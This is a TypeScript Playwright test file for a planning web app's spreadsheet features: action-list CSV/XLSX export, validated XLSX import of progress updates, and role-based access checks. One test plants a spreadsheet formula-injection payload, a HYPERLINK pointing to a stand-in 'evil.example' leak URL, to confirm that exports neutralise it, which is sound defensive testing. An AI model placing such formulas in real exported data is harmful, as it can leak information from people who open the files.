import fs from "node:fs/promises";
import { parse } from "csv-parse/sync";
import { eq, inArray } from "drizzle-orm";
import ExcelJS from "exceljs";
import { getDb } from "@/db";
import { actions, progressUpdates } from "@/db/schema";
import { PLAN, expect, expectNoA11yViolations, test, type Page } from "./fixtures";
import { authFile } from "./support/accounts";
import { CURRENT, LOOP_PLAN, createGroupWithActions, ensureCurrentPeriod } from "./support/quarter";

// Specs that add actions and periods do it in the loop plan, never the seeded SJV plan.
const LOOP = `/plans/${LOOP_PLAN.slug}`;

// Spreadsheets, as staff use them: the filtered action list downloaded as CSV
// and XLSX, and one quarter's updates imported from an XLSX file (a bad row is
// previewed and nothing is written; the fixed file goes in).

test.use({ storageState: authFile("admin") });

const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

async function download(page: Page, linkName: string) {
  const downloading = page.waitForEvent("download");
  await page.getByRole("link", { name: linkName }).click();
  const file = await downloading;
  expect(await file.failure()).toBeNull();
  return { name: file.suggestedFilename(), bytes: await fs.readFile((await file.path())!) };
}

async function workbook(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet("Updates");
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await book.xlsx.writeBuffer());
}

test("the action list downloads as CSV and XLSX with its filter, every cell escaped", async ({ page }) => {
  const { actions: made } = createGroupWithActions("sheets-list-wg", 3);
  const hostile = '=HYPERLINK("http://evil.example/?leak","Click me")';
  getDb().update(actions).set({ title: hostile }).where(eq(actions.id, made[0]!.id)).run();

  await page.goto(`${LOOP}/actions?group=sheets-list-wg`);
  await expect(page.getByRole("status")).toHaveText("Showing 1–3 of 3 actions matching the filters.");

  const csv = await download(page, "Download the 3 matching actions as CSV");
  expect(csv.name).toBe("e2e-loop-actions.csv");
  const records = parse(csv.bytes, { bom: true }) as string[][];
  expect(records[0]!.slice(0, 3)).toEqual(["Code", "Title", "Text"]);
  expect(records.slice(1).map((r) => r[0])).toEqual(["SHEETS-LIST-WG-1", "SHEETS-LIST-WG-2", "SHEETS-LIST-WG-3"]);
  expect(records[1]![1]).toBe(`'${hostile}`);
  expect(records[2]).toEqual(expect.arrayContaining(["Action 2 of sheets-list-wg", "Do the 2th thing for sheets-list-wg.", "Work group sheets-list-wg", "sheets-list-wg", "Not started"]));

  const xlsx = await download(page, "Download the 3 matching actions as Excel (XLSX)");
  expect(xlsx.name).toBe("e2e-loop-actions.xlsx");
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(xlsx.bytes as unknown as ExcelJS.Buffer);
  const sheet = book.worksheets[0]!;
  expect(sheet.rowCount).toBe(4);
  expect(sheet.getCell("A1").value).toBe("Code");
  expect([2, 3, 4].map((r) => sheet.getCell(r, 1).value)).toEqual(["SHEETS-LIST-WG-1", "SHEETS-LIST-WG-2", "SHEETS-LIST-WG-3"]);
  // A text cell, not a formula.
  expect(sheet.getCell("B2").value).toBe(hostile);
  expect(sheet.getCell("B2").type).toBe(ExcelJS.ValueType.String);

  // The route answers as a download, and sniffing is off.
  const response = await page.request.get(`${LOOP}/actions/export?format=xlsx&group=sheets-list-wg`);
  expect(response.headers()).toMatchObject({ "content-type": XLSX_TYPE, "content-disposition": 'attachment; filename="e2e-loop-actions.xlsx"', "x-content-type-options": "nosniff" });
});

test("an XLSX import of updates with a bad row previews the problem and writes nothing; fixed, it imports", async ({ page }) => {
  ensureCurrentPeriod();
  const { actions: made } = createGroupWithActions("sheets-import-wg", 2);
  const [first, second] = made as [(typeof made)[0], (typeof made)[0]];
  const header = ["Action code", "Status", "Percent complete", "Narrative"];
  const upload = async (rows: ExcelJS.CellValue[][], name: string) => {
    await page.goto(`${LOOP}/import`);
    await page.getByRole("radio", { name: "Progress updates for one quarter" }).check();
    await page.getByLabel("Quarter (for progress updates)").selectOption({ label: `${CURRENT.label} (open, current)` });
    await page.getByLabel("Spreadsheet file").setInputFiles({ name, mimeType: XLSX_TYPE, buffer: await workbook([header, ...rows]) });
    await page.getByRole("button", { name: "Check the file" }).click();
    await expect(page.getByRole("heading", { level: 1, name: `Preview of ${name}` })).toBeVisible();
  };

  await page.goto(LOOP);
  await page.getByRole("navigation", { name: "Plan" }).getByRole("link", { name: "Import" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Import from a spreadsheet" })).toBeVisible();
  await expectNoA11yViolations(page);
  // A file over the limit is refused in the browser, before it is sent.
  await page.getByLabel("Spreadsheet file").setInputFiles({ name: "huge.xlsx", mimeType: XLSX_TYPE, buffer: Buffer.alloc(6 * 1024 * 1024) });
  await expect(page.getByText("The file is 6 MB; the limit is 5 MB.")).toBeVisible();
  await expect(page.getByLabel("Spreadsheet file")).toHaveAttribute("aria-invalid", "true");

  await upload(
    [
      [first.code, "On track", 40, "Both colleges signed up."],
      [second.code, "At risk", 140, "Funding is late."],
    ],
    "q4-bad.xlsx",
  );
  await expect(page.getByText("1 problem found: nothing from this file can be imported.")).toBeVisible();
  const problems = page.getByRole("table", { name: "Problems found in the file, by row" });
  await expect(problems.getByRole("row")).toHaveText(["RowColumnProblem", "3Percent completeUse 0 to 100."]);
  await expect(page.getByRole("button", { name: /^Import/ })).toHaveCount(0);
  await expectNoA11yViolations(page);
  const written = () => getDb().select().from(progressUpdates).where(inArray(progressUpdates.actionId, [first.id, second.id])).orderBy(progressUpdates.actionId).all();
  expect(written()).toEqual([]);
  await page.goto(`/actions/${first.id}`);
  await expect(page.locator("article header").first()).toContainText("Not started");

  await upload(
    [
      [first.code, "On track", 40, "Both colleges signed up."],
      [second.code, "At risk", 15, "Funding is late."],
    ],
    "q4-fixed.xlsx",
  );
  await expect(page.getByRole("heading", { name: "No problems found" })).toBeVisible();
  await expectNoA11yViolations(page);
  await page.getByRole("button", { name: "Import 2 rows" }).click();
  await expect(page.getByText(/^Imported at \d{4}-\d\d-\d\d \d\d:\d\d UTC\.$/)).toBeVisible();
  await expect(page.getByRole("button", { name: /^Import/ })).toHaveCount(0);
  expect(written().map((u) => [u.actionId, u.status, u.percentComplete, u.reviewState])).toEqual([
    [first.id, "on_track", 40, "accepted"],
    [second.id, "at_risk", 15, "accepted"],
  ]);

  await page.goto(`/actions/${first.id}`);
  await expect(page.locator("article header").first()).toContainText("On track");
  await page.goto(`/actions/${second.id}`);
  await expect(page.locator("article header").first()).toContainText("At risk");
});

test("staff download the tracker and the import templates", async ({ page }) => {
  ensureCurrentPeriod();
  const { actions: made } = createGroupWithActions("sheets-tracker-wg", 2);
  const tracker = await page.request.get(`${LOOP}/tracker/export?format=csv&group=sheets-tracker-wg`);
  expect(tracker.status()).toBe(200);
  expect(tracker.headers()["content-disposition"]).toBe('attachment; filename="e2e-loop-tracker-2026-q4.csv"');
  const rows = parse(await tracker.body(), { bom: true }) as string[][];
  expect(rows[0]).toEqual(["Work group", "Code", "Action", "State", "Review state", "Draft saved", "Last update", "Updated by", "Stale"]);
  expect(rows.slice(1).map((r) => r[1])).toEqual(made.map((a) => a.code));

  await page.goto(`${LOOP}/import`);
  const template = await download(page, "Download the updates template as CSV");
  expect(template.name).toBe("updates-import-template.csv");
  expect(parse(template.bytes, { bom: true })).toEqual([
    ["Action code", "Status", "Percent complete", "Narrative"],
    ["EN-1", "On track", "40", "Two colleges signed up; the first cohort starts in March."],
  ]);
});

test.describe("as a work group lead", () => {
  test.use({ storageState: authFile("lead") });

  test("there is no import and no tracker download, but the action list downloads", async ({ page }) => {
    await page.goto(PLAN);
    await expect(page.getByRole("navigation", { name: "Plan" }).getByRole("link", { name: "Import" })).toHaveCount(0);
    expect((await page.goto(`${PLAN}/import`))?.status()).toBe(403);
    expect((await page.request.get(`${PLAN}/import/template?kind=actions&format=csv`)).status()).toBe(403);
    expect((await page.request.get(`${PLAN}/tracker/export?format=csv`)).status()).toBe(403);
    const list = await page.request.get(`${PLAN}/actions/export?format=csv&section=energy`);
    expect(list.status()).toBe(200);
    expect((parse(await list.body(), { bom: true }) as string[][]).length).toBe(7);
  });
});
